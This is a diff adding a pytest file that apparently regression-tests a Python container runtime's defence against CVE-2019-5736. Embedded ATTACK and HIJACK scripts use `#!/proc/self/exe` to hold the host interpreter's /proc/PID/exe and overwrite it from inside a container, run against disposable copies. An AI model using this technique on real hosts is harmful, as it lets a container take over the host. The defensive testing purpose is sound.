@@ -1,0 +1,379 @@
+"""runc's CVE-2019-5736 made real: a container overwrites the interpreter pyrunc runs on.
+
+pyrunc's container-side processes are forked, so their /proc/PID/exe is the host's interpreter.
+An entrypoint (or exec'd program) starting with `#!/proc/self/exe` makes the kernel run that
+interpreter inside the container as a dumpable process with the container's credentials; a
+container process opens /proc/PID/exe (O_PATH) and, once nothing runs the file any more, opens
+it for writing through /proc/self/fd/N. The defence (pyrunc/security/exeseal.py) puts the
+interpreter on a read-only mount, so the open fails with EROFS.
+
+The tests NEVER touch the real interpreter: each one copies it to a tmp dir under the name
+`make setup` gives its own copy (pyrunc-python), runs every pyrunc call through a launcher
+like bin/pyrunc pointing at that copy, and checks the copy's sha256 afterwards. Each scenario
+also runs with the defence disabled (a launcher that skips ensure_sealed), where the same
+attack must succeed: proof that the attack test can fail. The copy's read-only bind is
+detached at teardown; nothing is left mounted.
+
+The attacker is the image's own python (a copy of the interpreter inside the rootfs, with the
+host's /usr/lib bound read-only as its libraries and standard library, as a real image would
+ship them); the containers keep the default capabilities (no CAP_SYS_ADMIN), as in the CVE.
+"""
+
+import hashlib
+import json
+import os
+import shutil
+import subprocess
+import sys
+import sysconfig
+import time
+
+import pytest
+
+from bundle import make_rootfs
+from helpers import Runner, mountpoints, wait_for
+from pyrunc.spec.default import default_config
+
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+REAL_PYTHON = os.path.realpath(sys.executable)
+SITE = sysconfig.get_paths()["purelib"]
+
+LAUNCHER = """#!{python} -IS
+import sys
+sys.path += [{root!r}, {site!r}]
+{disable}from pyrunc.cli.main import entry
+entry()
+"""
+# the "defence removed" launcher: the CLI seals before no verb
+DISABLE = "import pyrunc.cli.main as _m\n_m.SEALED_VERBS = ()\n"
+
+# Run in the container by the image's python: grabs /proc/PID/exe of the hijacked process and
+# tries to write it. argv: "watch MARKER" (the first other process whose cmdline has MARKER)
+# or "pid N"; then the report path. /out/grabbed tells the others the fd is held.
+ATTACK = r'''
+import errno, json, os, sys, time
+
+PAYLOAD = b"\n#written-from-a-container\n"
+mode, arg, out = sys.argv[1:4]
+report = {"pid": None, "link": None, "ino": None, "grab": None, "direct": [], "reopen": [],
+          "wrote": False}
+
+
+def name(e):
+    return errno.errorcode.get(e.errno, str(e.errno))
+
+
+def save():
+    with open(out + ".tmp", "w") as f:
+        json.dump(report, f)
+    os.rename(out + ".tmp", out)
+
+
+def find(marker):
+    me = os.getpid()
+    while True:
+        for p in os.listdir("/proc"):
+            if p.isdigit() and int(p) != me:
+                try:
+                    with open(f"/proc/{p}/cmdline", "rb") as f:
+                        if marker.encode() in f.read():
+                            return int(p)
+                except OSError:
+                    pass
+        time.sleep(0.001)
+
+
+def runs(pid, st):
+    """Does pid still run the file st describes?"""
+    try:
+        now = os.stat(f"/proc/{pid}/exe")
+    except OSError:
+        return False
+    return (now.st_dev, now.st_ino) == (st.st_dev, st.st_ino)
+
+
+def write_through(path, log):
+    """Open for writing and append; retry past ETXTBSY (a process runs the file) for 10 s."""
+    deadline = time.monotonic() + 10
+    while True:
+        try:
+            fd = os.open(path, os.O_WRONLY | os.O_APPEND)
+        except OSError as e:
+            if not log or log[-1] != name(e):
+                log.append(name(e))
+            if e.errno == errno.ETXTBSY and time.monotonic() < deadline:
+                time.sleep(0.002)
+                continue
+            return False
+        os.write(fd, PAYLOAD)
+        os.close(fd)
+        log.append("OK")
+        return True
+
+
+# the hijacked process: grab its exe as soon as it lets us (the pyrunc process it is until
+# its execve is not dumpable)
+deadline = time.monotonic() + 20
+while True:
+    pid = find(arg) if mode == "watch" else int(arg)
+    try:
+        fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
+        break
+    except OSError as e:
+        report["grab"] = name(e)
+        if time.monotonic() > deadline:
+            save()
+            sys.exit(1)
+        time.sleep(0.001)
+report["pid"], report["grab"] = pid, "OK"
+report["link"] = os.readlink(f"/proc/self/fd/{fd}")
+st = os.fstat(fd)
+report["ino"] = [st.st_dev, st.st_ino]
+open("/out/grabbed", "w").close()
+# directly, while it runs (ETXTBSY, or EROFS when sealed)
+while runs(pid, st) and len(report["direct"]) < 3:
+    try:
+        wfd = os.open(f"/proc/{pid}/exe", os.O_WRONLY | os.O_APPEND)
+    except OSError as e:
+        report["direct"].append(name(e))
+        time.sleep(0.01)
+        continue
+    os.write(wfd, PAYLOAD)
+    report["direct"].append("OK")
+    report["wrote"] = True
+    break
+# then the CVE's way: once it exited or exec'd something else, reopen the held fd for writing
+while runs(pid, st):
+    time.sleep(0.002)
+report["wrote"] = write_through(f"/proc/self/fd/{fd}", report["reopen"]) or report["wrote"]
+save()
+'''
+
+# The hijack: pyrunc's own interpreter, run inside the container by the kernel. "-S": only
+# the standard library (the image's /usr/lib) is needed. It lives until the attacker holds
+# its exe, then exits (exec, shared pid namespace) or, as the container's PID 1, execs sleep.
+HIJACK = r'''#!/proc/self/exe -S
+import os, sys, time
+if sys.argv[1:] == ["spawn"]:  # PID 1 of `run`: bring the attacker along
+    os.posix_spawn("/bin/python3", ["python3", "/attack/attack.py", "pid", str(os.getpid()),
+                                    "/out/result.json"], {})
+deadline = time.monotonic() + 20
+while not os.path.exists("/out/grabbed") and time.monotonic() < deadline:
+    time.sleep(0.002)
+time.sleep(0.1)
+if os.getpid() == 1:
+    os.execv("/bin/sleep", ["sleep", "60"])
+'''
+
+
+def sha256(path):
+    with open(path, "rb") as f:
+        return hashlib.sha256(f.read()).hexdigest()
+
+
+@pytest.fixture(scope="module")
+def attack_rootfs(tmp_path_factory):
+    """busybox + the image's python (a copy, at /bin/python3) + the attack scripts; /usr/lib and
+    /usr/lib64 are mount points for the host's, bound read-only by each config."""
+    root = make_rootfs(str(tmp_path_factory.mktemp("attack-rootfs")))
+    for d in ("usr/lib", "usr/lib64", "attack", "out"):
+        os.makedirs(os.path.join(root, d), exist_ok=True)
+    for link, target in (("lib", "usr/lib"), ("lib64", "usr/lib64")):
+        if not os.path.lexists(os.path.join(root, link)):
+            os.symlink(target, os.path.join(root, link))
+    shutil.copy2(REAL_PYTHON, os.path.join(root, "bin/python3"))
+    with open(os.path.join(root, "attack/attack.py"), "w") as f:
+        f.write(ATTACK)
+    with open(os.path.join(root, "attack/hijack"), "w") as f:
+        f.write(HIJACK)
+    os.chmod(os.path.join(root, "attack/hijack"), 0o755)
+    return root
+
+
+class Interpreter:
+    """A disposable copy of the interpreter and a launcher (bin/pyrunc's shape) that runs
+    pyrunc on it; `runner` calls it with the test's own --root. defence: "sealed" (the copy is
+    named as `make setup`'s: sealed in place), "private" (any other name: a system
+    interpreter's case, sealed by a detached read-only clone and a re-exec per call) or
+    "disabled" (the CLI skips the seal)."""
+
+    def __init__(self, tmp, defence):
+        self.defence = defence
+        self.dir = os.path.join(tmp, "interp")
+        os.makedirs(self.dir)
+        self.path = os.path.join(self.dir, "python3.11" if defence == "private" else "pyrunc-python")
+        shutil.copy2(REAL_PYTHON, self.path)
+        self.sha = sha256(self.path)
+        launcher = os.path.join(self.dir, "pyrunc")
+        with open(launcher, "w") as f:
+            f.write(LAUNCHER.format(python=self.path, root=ROOT, site=SITE,
+                                    disable=DISABLE if defence == "disabled" else ""))
+        os.chmod(launcher, 0o755)
+        self.runner = Runner([launcher], os.path.join(tmp, "pyrunc-root"))
+
+    def mounted(self):
+        return self.path in mountpoints()
+
+    def unseal(self):
+        """Detach every bind stacked on the copy (lazily: a process may still run it)."""
+        while self.mounted():
+            subprocess.run(["umount", "-l", self.path], check=True)
+
+
+@pytest.fixture(params=["sealed", "disabled"])
+def interp(request, tmp_path):
+    before = [m for m in mountpoints() if m.startswith(str(tmp_path))]
+    it = Interpreter(str(tmp_path), request.param)
+    yield it
+    it.runner.cleanup()
+    it.unseal()
+    assert not [m for m in mountpoints() if m.startswith(str(tmp_path))] and not before
+    assert not it.runner.ids(), f"state left behind: {it.runner.ids()}"
+
+
+def bundle(tmp_path, name, rootfs, args, *, caps=(), namespaces=None):
+    path = tmp_path / name
+    path.mkdir()
+    config = default_config(rootfs=rootfs, args=list(args), terminal=False)
+    config["mounts"] += [
+        {"destination": "/usr/lib", "type": "bind", "source": "/usr/lib", "options": ["bind", "ro"]},
+        {"destination": "/usr/lib64", "type": "bind", "source": "/usr/lib64", "options": ["bind", "ro"]},
+        {"destination": "/out", "type": "bind", "source": str(tmp_path / "out"), "options": ["bind"]},
+    ]
+    for kind in ("bounding", "effective", "permitted"):
+        config["process"]["capabilities"][kind] += list(caps)
+    if namespaces is not None:
+        config["linux"]["namespaces"] = namespaces
+    with open(path / "config.json", "w") as f:
+        json.dump(config, f)
+    return str(path)
+
+
+@pytest.fixture
+def out(tmp_path):
+    d = tmp_path / "out"
+    d.mkdir()
+    d.chmod(0o777)
+    return d
+
+
+def report_of(out):
+    path = out / "result.json"
+    wait_for(path.exists, timeout=30, what="the attacker's report")
+    return json.loads(path.read_text())
+
+
+def check(interp, report):
+    """The attack reached pyrunc's interpreter; sealed, every write failed and the file is
+    intact; with the defence disabled, the write went through (the test can fail)."""
+    assert report["grab"] == "OK", report
+    st = os.stat(interp.path)
+    assert report["ino"] == [st.st_dev, st.st_ino], report
+    if interp.defence != "private":  # a detached mount has no path: its link reads "/"
+        assert report["link"] == interp.path, report
+    if interp.defence != "disabled":
+        assert not report["wrote"] and "OK" not in report["direct"] + report["reopen"], report
+        assert sha256(interp.path) == interp.sha, "the interpreter was modified"
+        assert report["reopen"][-1] == "EROFS", report
+        assert set(report["direct"]) <= {"ETXTBSY", "EROFS"}, report
+        # sealed in place (later launches need no re-exec), or privately: nothing mounted
+        assert interp.mounted() == (interp.defence == "sealed")
+    else:
+        assert report["wrote"] and sha256(interp.path) != interp.sha, report
+
+
+ALL = pytest.mark.parametrize("interp", ["sealed", "private", "disabled"], indirect=True)
+
+
+@ALL
+def test_run_entrypoint_hijack(interp, attack_rootfs, tmp_path, out, cid):
+    """`run`: the entrypoint is `#!/proc/self/exe`; as PID 1 it starts the attacker, which
+    holds /proc/1/exe while PID 1 is pyrunc's interpreter and writes it after PID 1 exec'd."""
+    b = bundle(tmp_path, "b", attack_rootfs, ["/attack/hijack", "spawn"])
+    r = interp.runner("run", "-d", "--bundle", b, cid)
+    assert r.rc == 0, r.err
+    check(interp, report_of(out))
+
+
+@ALL
+def test_exec_detach_hijack(interp, attack_rootfs, tmp_path, out, cid):
+    """`exec -d` of a `#!/proc/self/exe` program: the container's attacker, already running,
+    waits for it and writes its exe after it exited."""
+    b = bundle(tmp_path, "b", attack_rootfs,
+               ["/bin/python3", "/attack/attack.py", "watch", "/attack/hijac", "/out/result.json"])
+    assert interp.runner("run", "-d", "--bundle", b, cid).rc == 0
+    r = interp.runner("exec", "-d", cid, "/attack/hijack")
+    assert r.rc == 0, r.err
+    check(interp, report_of(out))
+
+
+def test_shared_pid_namespace_hijack(interp, attack_rootfs, tmp_path, out, cid):
+    """A second container joins the first one's pid namespace with a `#!/proc/self/exe`
+    entrypoint: the first container's attacker sees it and writes its exe."""
+    a = bundle(tmp_path, "a", attack_rootfs,
+               ["/bin/python3", "/attack/attack.py", "watch", "/attack/hijac", "/out/result.json"])
+    assert interp.runner("run", "-d", "--pid-file", str(tmp_path / "a.pid"), "--bundle", a, cid).rc == 0
+    init = int((tmp_path / "a.pid").read_text())
+    namespaces = [{"type": "pid", "path": f"/proc/{init}/ns/pid"}] + [
+        {"type": t} for t in ("network", "ipc", "uts", "mount", "cgroup")]
+    b = bundle(tmp_path, "b", attack_rootfs, ["/attack/hijack"], namespaces=namespaces)
+    r = interp.runner("run", "-d", "--bundle", b, cid + "-b")
+    assert r.rc == 0, r.err
+    check(interp, report_of(out))
+
+
+def test_created_init_via_ptrace_exec(interp, attack_rootfs, tmp_path, out, cid):
+    """/proc/1/exe of a created (not started) container, from an `exec` with CAP_SYS_PTRACE
+    (the waiting init is not dumpable): the attacker holds it; after `start` the init exec'd
+    the user's program and the attacker writes the interpreter."""
+    b = bundle(tmp_path, "b", attack_rootfs, ["sleep", "60"])
+    assert interp.runner("create", "--bundle", b, cid).rc == 0
+    r = interp.runner("exec", "-d", "--cap", "CAP_SYS_PTRACE", cid,
+                      "/bin/python3", "/attack/attack.py", "pid", "1", "/out/result.json")
+    assert r.rc == 0, r.err
+    wait_for(lambda: (out / "grabbed").exists() or (out / "result.json").exists(), timeout=20,
+             what="the attacker to hold /proc/1/exe")
+    time.sleep(0.1)
+    assert interp.runner("start", cid).rc == 0
+    check(interp, report_of(out))
+
+
+# ------------------------------------------------------------------- when sealing is impossible
+
+@pytest.fixture
+def plain(tmp_path):
+    it = Interpreter(str(tmp_path), "sealed")
+    yield it
+    it.unseal()
+    assert not it.mounted()
+
+
+def test_no_cap_sys_admin_refuses(plain, attack_rootfs, tmp_path, cid):
+    """Root without CAP_SYS_ADMIN cannot mount, and root owns (can write) the interpreter: no
+    create/run/exec, one clear error, nothing left behind, nothing mounted."""
+    b = bundle(tmp_path, "b", attack_rootfs, ["true"])
+    runner = Runner(["setpriv", "--bounding-set", "-sys_admin", "--", *plain.runner.argv], plain.runner.root)
+    for verb, rc, prefix in (("create", 1, "pyrunc create failed: "), ("run", 1, "pyrunc run failed: "),
+                             ("exec", 255, "exec failed: ")):
+        args = ["--bundle", b, cid] if verb != "exec" else [cid, "true"]
+        r = runner(verb, *args)
+        assert r.rc == rc and r.out == "", (verb, r.rc, r.err)
+        assert f"{prefix}cannot seal the interpreter {plain.path} against containers overwriting it " \
+               "(CVE-2019-5736): open_tree: operation not permitted; this user can write it" in r.err, r.err
+    assert not plain.mounted() and not plain.runner.ids() and sha256(plain.path) == plain.sha
+
+
+def test_unprivileged_user_and_unwritable_interpreter(plain, tmp_path, cid):
+    """No mount possible (not root) but the interpreter is root's: no process of this user, so
+    no container of this user, can write it; pyrunc goes on (and fails later for its own
+    reasons). Once the user owns the interpreter, it refuses."""
+    for d in (tmp_path.parent.parent, tmp_path.parent, tmp_path, plain.dir):
+        os.chmod(d, 0o711)
+    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
+    runner = Runner([*nobody, *plain.runner.argv], str(tmp_path / "nobody-root"))
+    r = runner("create", "--bundle", str(tmp_path), cid)
+    assert r.rc == 1 and "cannot seal" not in r.err and "config.json" in r.err, r.err  # got past it
+    os.chown(plain.path, 65534, 65534)
+    r = runner("create", "--bundle", str(tmp_path), cid)
+    assert r.rc == 1 and "cannot seal the interpreter" in r.err and "this user can write it" in r.err, r.err
+    assert not plain.mounted() and sha256(plain.path) == plain.sha
